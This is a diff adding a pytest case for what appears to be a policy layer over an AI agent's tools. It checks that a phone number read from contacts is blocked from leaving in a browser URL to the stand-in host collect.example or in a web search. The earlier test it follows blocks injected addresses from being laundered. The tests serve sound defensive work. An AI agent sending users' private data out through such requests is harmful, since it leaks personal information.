@@ -733,3 +733,21 @@ def test_writing_an_injected_address_into_contacts_does_not_launder_it(pep: PEP)
         )
     )
     assert send.decision is Decision.DENY and send.rule_ids == ["default:injected-consequence"]
+
+
+@pytest.mark.parametrize(
+    ("target", "payload", "decision"),
+    [
+        ("browser.open", {"url": "https://collect.example/?p=13812345678"}, Decision.DENY),
+        ("web_search", {"query": "who owns 138 1234 5678"}, Decision.DENY),
+        ("browser.open", {"url": "https://news.example.com/today"}, Decision.ALLOW),
+        ("contacts.search", {"query": "13812345678"}, Decision.ALLOW),
+        ("web_search", {"query": "pancake recipe"}, Decision.ALLOW),
+    ],
+)
+def test_a_read_whose_request_carries_a_source_value_leaks_it(
+    pep: PEP, target: str, payload: dict[str, object], decision: Decision
+) -> None:
+    read_contact(pep)
+    verdict = pep.decide_sync(tool_event(target, payload))
+    assert verdict.decision is decision, verdict.reason
